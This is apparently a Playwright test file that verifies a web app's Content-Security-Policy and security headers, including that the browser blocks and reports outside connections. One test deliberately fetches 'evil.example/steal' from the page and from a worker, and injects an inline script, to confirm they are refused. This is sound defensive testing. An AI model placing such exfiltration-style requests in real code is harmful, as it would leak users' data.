// The security headers: what vite preview sends on the page, its scripts, workers and the
// onnxruntime files; that the browser enforces the policy (a connection elsewhere is refused
// and reported, which is also how every other test's CSP guard sees violations); and the
// static-host file the build writes. That the whole app works under the policy is shown by
// every other spec, each of which fails on a violation (fixtures.ts).
import { readFileSync } from 'node:fs';
import { contentSecurityPolicy, staticHeadersFile } from '../src/state/hub-policy';
import { APP_URL, cspReports, expect, test } from './fixtures';

test.describe('Content-Security-Policy and security headers', () => {
  // this spec provokes violations on purpose: a fetch to evil.example and an inline script
  test.use({ cspAllowed: /evil\.example|inline/ });

  test('the page, its scripts, the engine worker and the onnxruntime files carry the headers', async ({ page, request, backend }) => {
    test.skip(backend !== 'wasm', 'headers do not depend on the backend');
    const scripts: string[] = [];
    page.on('response', (r) => {
      if (/\.(m?js|wasm)(\?|$)/.test(r.url()) && r.url().startsWith(APP_URL)) scripts.push(r.url());
    });
    const doc = await page.goto('/?ko=0&rel=0');
    const h = doc!.headers();
    expect(h['content-security-policy']).toContain("script-src 'self' 'wasm-unsafe-eval'");
    expect(h['content-security-policy']).toContain("frame-ancestors 'none'");
    expect(h['content-security-policy']).toContain("object-src 'none'");
    expect(h['content-security-policy']).toContain("base-uri 'none'");
    expect(h['x-content-type-options']).toBe('nosniff');
    expect(h['referrer-policy']).toBe('no-referrer');
    expect(h['cross-origin-embedder-policy']).toBe('require-corp');
    await expect(page.getByTestId('lens-heatmap')).toBeVisible({ timeout: 120_000 });
    // the worker and onnxruntime's files were loaded under the same policy
    expect(scripts.some((u) => /engine\.worker/.test(u))).toBe(true);
    expect(scripts.some((u) => /\/ort\//.test(u))).toBe(true);
    for (const u of scripts.filter((x) => /engine\.worker|\/ort\//.test(x)).slice(0, 4)) {
      const r = await request.get(u);
      expect(r.headers()['content-security-policy'], u).toBe(h['content-security-policy']);
    }
  });

  test('the browser enforces it: a connection elsewhere is refused, and reported', async ({ page, request }) => {
    await page.goto('/?ko=0&rel=0');
    const before = (await cspReports(request)).length;
    const outcome = await page.evaluate(async () => {
      try {
        await fetch('https://evil.example/steal?x=1');
        return 'fetched';
      } catch (e) {
        return `refused: ${(e as Error).name}`;
      }
    });
    expect(outcome).toBe('refused: TypeError');
    await expect.poll(async () => (await cspReports(request)).slice(before).map((r) => String(r['blocked-uri']))).toContainEqual(expect.stringContaining('evil.example'));
    // and from a worker, where page scripts cannot watch
    const before2 = (await cspReports(request)).length;
    await page.evaluate(() => {
      const w = new Worker(URL.createObjectURL(new Blob(["fetch('https://evil.example/from-worker').catch(() => {})"], { type: 'text/javascript' })));
      setTimeout(() => w.terminate(), 3000);
    });
    await expect.poll(async () => (await cspReports(request)).slice(before2).map((r) => String(r['blocked-uri']))).toContainEqual(expect.stringContaining('evil.example'));
    // no inline script runs
    const ran = await page.evaluate(() => {
      const s = document.createElement('script');
      s.textContent = 'window.__inline = 1';
      document.body.appendChild(s);
      return (window as unknown as { __inline?: number }).__inline === 1;
    });
    expect(ran).toBe(false);
  });

  test('the build writes the same policy for static hosts (dist/_headers)', async ({ backend }) => {
    test.skip(backend !== 'wasm', 'one check is enough');
    const file = readFileSync('dist/_headers', 'utf8');
    expect(file).toBe(staticHeadersFile([]));
    expect(file).toContain(`Content-Security-Policy: ${contentSecurityPolicy({ localHubs: false })}`);
    expect(file).not.toContain('127.0.0.1');
  });
});
